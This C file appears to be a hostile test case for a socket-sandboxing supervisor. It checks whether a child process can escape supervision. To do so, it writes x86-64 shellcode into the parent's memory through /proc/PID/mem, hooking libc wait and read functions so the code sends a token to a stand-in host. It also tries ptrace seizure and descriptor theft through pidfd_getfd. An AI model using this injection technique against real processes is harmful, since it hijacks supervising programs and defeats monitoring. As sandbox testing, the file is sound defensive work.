/*
 * What a program may do to whoever judges it, being of the same user: write code into its memory by
 * /proc/PID/mem, which sends a token past the proxy; take its descriptors; stop it.
 */
#include "hostile.h"
#include <dirent.h>
#include <dlfcn.h>
#include <sys/ptrace.h>

#ifdef __x86_64__
/* Connects to FOREIGN4:PORT, sends TOKEN, and ends. Code that is returned into lands on the nops. */
extern const char code[], code_end[];
__asm__(".pushsection .rodata\n"
        "code: .fill 128, 1, 0x90\n"
        "mov $41, %eax\n mov $2, %edi\n mov $1, %esi\n xor %edx, %edx\n syscall\n" /* socket */
        "mov %eax, %edi\n mov $42, %eax\n lea 1f(%rip), %rsi\n mov $16, %edx\n syscall\n" /* connect */
        "mov $1, %eax\n lea 2f(%rip), %rsi\n mov $15, %edx\n syscall\n" /* write */
        "mov $231, %eax\n xor %edi, %edi\n syscall\n" /* exit_group */
        "1: .short 2\n .byte 0x1e, 0x61, 203, 0, 113, 5\n .quad 0\n"
        "2: .ascii \"sockstrace-leak\"\n"
        "code_end: .popsection");

/* Where the C library's first executable map begins in a process; 0 where that can't be seen. */
static unsigned long library_of(int pid)
{
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "r");
    unsigned long start = 0, end;
    while (maps && fgets(line, sizeof line, maps)) {
        if (strstr(line, "/libc.so.6") && strstr(line, " r-xp ") && sscanf(line, "%lx-%lx", &start, &end) == 2)
            break;
        start = 0;
    }
    if (maps)
        fclose(maps);
    return start;
}

/* Whoever waits in one of these returns into the code. */
static int write_code(int memory, int pid)
{
    static const char *const waits[] = {"ioctl", "wait4", "waitid", "poll", "read", "epoll_wait", "sigtimedwait"};
    unsigned long own = library_of(getpid()), theirs = library_of(pid);
    if (own == 0 || theirs == 0)
        return -1;
    for (size_t i = 0; i < LENGTH(waits); i++) {
        unsigned long function = (unsigned long)dlsym(RTLD_DEFAULT, waits[i]);
        if (function != 0 && pwrite(memory, code, code_end - code, function - own + theirs) < 0)
            return -1;
    }
    return 0;
}
#else
static int write_code(int memory, int pid)
{
    (void)memory, (void)pid;
    return -1;
}
#endif

static int parent_of(int pid)
{
    char path[64], text[512] = "";
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    int file = open(path, O_RDONLY), parent = 0;
    if (file >= 0 && read(file, text, sizeof text - 1) > 0 && strrchr(text, ')'))
        sscanf(strrchr(text, ')') + 2, "%*c %d", &parent);
    close(file);
    return parent;
}

/* Parent and grandparent: with --leftover background the one that the user has started is the latter. */
static int overwritten(char **args)
{
    (void)args;
    int victims[] = {getppid(), parent_of(getppid())};
    for (size_t i = 0; i < LENGTH(victims); i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/mem", victims[i]);
        int memory = open(path, O_RDWR);
        say("open of its memory", memory < 0 ? memory : 0);
        if (memory >= 0)
            say("writing code", write_code(memory, victims[i]));
        snprintf(path, sizeof path, "/proc/%d/fd", victims[i]);
        DIR *descriptors = opendir(path);
        say("list of its descriptors", descriptors ? 0 : -1);
        say("PTRACE_SEIZE", ptrace(PTRACE_SEIZE, victims[i], 0, 0));
        int process = syscall(SYS_pidfd_open, victims[i], 0);
        say("pidfd_getfd", syscall(SYS_pidfd_getfd, process, 0, 0));
    }
    fflush(stdout);
    /* Wakes it. */
    int fd = open_socket(AF_INET, SOCK_STREAM, 0);
    struct address to = at(FOREIGN4, PORT);
    say("connect", connect(fd, &to.any, to.length));
    sleep_ms(100);
    return 0;
}

const struct vector supervisor_cases[] = {
    {"overwritten", overwritten},
    {NULL, NULL},
};
